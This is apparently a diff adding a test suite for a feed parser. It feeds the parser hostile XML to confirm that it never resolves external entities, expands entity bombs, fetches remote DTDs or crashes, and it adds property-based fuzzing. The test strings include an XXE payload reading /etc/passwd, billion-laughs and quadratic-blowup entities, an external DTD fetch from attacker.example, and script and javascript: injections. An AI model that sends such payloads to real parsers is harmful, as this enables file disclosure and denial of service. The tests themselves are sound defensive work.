@@ -1,0 +1,159 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { FeedParseError, parseFeed } from "./parse-feed.ts";
+
+const fetchedAt = new Date("2026-11-22T12:00:00.000Z");
+const parse = (body: string) => parseFeed(body, { fetchedAt });
+
+/** Hang guard only (not a speed target): each hostile input must come back at all. */
+const GUARD = { timeout: 5_000 };
+
+const withDoctype = (doctype: string, title: string, description = "ok") =>
+  `<?xml version="1.0"?>\n<!DOCTYPE rss [\n${doctype}\n]>\n<rss version="2.0"><channel><item><title>${title}</title><link>https://a.example/x</link><description>${description}</description></item></channel></rss>`;
+
+function outcome(body: string): "items" | "parse-error" {
+  try {
+    const items = parse(body);
+    for (const item of items) {
+      expect(typeof item.title).toBe("string");
+      expect(item.title.length).toBeLessThanOrEqual(500);
+      expect(item.description.length).toBeLessThanOrEqual(2_000);
+      expect(item.link === "" || /^https?:\/\//.test(item.link)).toBe(true);
+    }
+    return "items";
+  } catch (error) {
+    if (error instanceof FeedParseError) return "parse-error";
+    throw error;
+  }
+}
+
+describe("hostile feeds", () => {
+  it("never resolves an external entity (XXE)", GUARD, () => {
+    const [item] = parse(withDoctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"));
+    expect(item?.title).toBe("&xxe;");
+    expect(item?.title).not.toMatch(/root:/);
+  });
+
+  it("never expands nested entities (billion laughs)", GUARD, () => {
+    const levels = ['<!ENTITY lol0 "lol">'];
+    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
+    const [item] = parse(withDoctype(levels.join("\n"), "&lol9;"));
+    expect(item?.title).toBe("&lol9;");
+  });
+
+  it("never expands one large entity repeated (quadratic blowup)", GUARD, () => {
+    const doctype = `<!ENTITY big "${"x".repeat(100_000)}">`;
+    const [item] = parse(withDoctype(doctype, "T", "&big;".repeat(20_000)));
+    expect(item?.description).not.toContain("xxxxxxxxxx");
+    expect(item?.description.length).toBeLessThanOrEqual(2_000);
+  });
+
+  it("handles a flood of numeric character references", GUARD, () => {
+    const [item] = parse(withDoctype("", "T", "&#65;".repeat(500_000)));
+    expect(item?.description.startsWith("AAAA")).toBe(true);
+    expect(item?.description.length).toBeLessThanOrEqual(2_000);
+  });
+
+  it("ignores entities that try to redefine &lt; and friends", GUARD, () => {
+    const doctype = '<!ENTITY lt "&#60;script&#62;alert(1)&#60;/script&#62;"><!ENTITY amp "&#38;evil;">';
+    const [item] = parse(withDoctype(doctype, "Fish &amp; chips", "&lt;b&gt;bold&lt;/b&gt;"));
+    expect(item?.title).toBe("Fish & chips");
+    expect(item?.description).toBe("bold");
+  });
+
+  it.each([
+    [
+      "a parameter entity pulling an external DTD",
+      withDoctype('<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;', "T"),
+    ],
+    ["a DOCTYPE with quotes and brackets inside strings", withDoctype('<!ENTITY q "a ] > b">', "T")],
+  ])("reads past %s without fetching or expanding anything", (_, body) => {
+    expect(parse(body).map((item) => item.title)).toEqual(["T"]);
+  });
+
+  it.each([
+    [
+      "truncated XML",
+      `<rss><channel><item><title>Complete</title><link>https://a.example/1</link></item><item><title>Cut of`,
+    ],
+    ["an unterminated DOCTYPE", "<!DOCTYPE rss [ <!ENTITY a 'b'> <rss>"],
+    ["deep nesting", `<rss><channel>${"<x>".repeat(20_000)}</channel></rss>`],
+    [
+      "invalid UTF-8 turned into replacement characters",
+      `<rss><channel><item><title>Caf\ufffd</title><link>https://a.example/u</link></item></channel></rss>`,
+    ],
+    [
+      "a million-character attribute",
+      `<rss><channel><item><title a="${"x".repeat(1_000_000)}">T</title></item></channel></rss>`,
+    ],
+    ["an unclosed CDATA section", "<rss><channel><item><title><![CDATA[never ends"],
+    ["an unclosed comment", "<rss><channel><!-- never ends"],
+    ["NUL bytes", "<rss>\u0000\u0000<channel>\u0000</channel></rss>"],
+  ])("answers %s with items or 'Failed to parse feed content', never a crash", (_, body) => {
+    expect(["items", "parse-error"]).toContain(outcome(body));
+  });
+});
+
+describe("parseFeed never throws anything but FeedParseError", () => {
+  const fragment = fc.constantFrom(
+    "<rss>",
+    "</rss>",
+    "<channel>",
+    "</channel>",
+    "<item>",
+    "</item>",
+    "<title>",
+    "</title>",
+    "<link>https://a.example/p</link>",
+    "<guid>g</guid>",
+    "<description>",
+    "</description>",
+    "<![CDATA[",
+    "]]>",
+    "<!DOCTYPE x [",
+    "]>",
+    "<!ENTITY e 'v'>",
+    "&e;",
+    "&amp;",
+    "&#x1F680;",
+    "&#99999999;",
+    "<feed>",
+    "<entry>",
+    '<link href="javascript:alert(1)"/>',
+    '<media:thumbnail url="//x"/>',
+    "<pubDate>Sun, 22 Nov 2026 10:00:00 GMT</pubDate>",
+    "<!--",
+    "-->",
+    "<",
+    ">",
+    '"',
+    "{",
+    "}",
+    "[",
+    "]",
+    '"status":"ok"',
+    '"items":',
+    ",",
+  );
+  const feedish = fc
+    .array(fc.oneof(fragment, fc.string({ maxLength: 12 })), { maxLength: 60 })
+    .map((parts) => parts.join(""));
+
+  it("on feed-like fragments in any order", { timeout: 30_000 }, () => {
+    fc.assert(
+      fc.property(feedish, (body) => {
+        outcome(body);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  it("on arbitrary text and JSON", { timeout: 30_000 }, () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.json({ maxDepth: 4 })), (body) => {
+        outcome(body);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+});
